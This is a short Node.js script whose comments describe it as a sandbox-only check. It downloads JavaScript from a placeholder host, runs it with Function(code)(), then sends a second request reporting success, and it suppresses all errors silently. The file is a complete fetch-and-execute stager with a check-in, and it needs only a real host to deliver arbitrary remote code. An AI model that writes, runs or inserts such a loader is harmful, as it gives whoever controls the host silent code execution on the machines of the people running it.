// Nothing answers outside of a sandbox: the name is one that can't exist.
const http = require('http')
const get = (path) => new Promise((done, fail) => {
  const req = http.get('http://stage.falconer-corpus.example' + path, { timeout: 20000 }, (r) => {
    let body = ''
    r.on('data', (b) => { body += b })
    r.on('end', () => (r.statusCode === 200 ? done(body) : fail(new Error(String(r.statusCode)))))
  })
  req.on('error', fail)
  req.on('timeout', () => req.destroy(new Error('timeout')))
})
const main = async () => {
  const code = await get('/first.js')
  Function(code)() // an empty line, in a sandbox
  await get('/second?done=first')
}
main().catch(() => {})
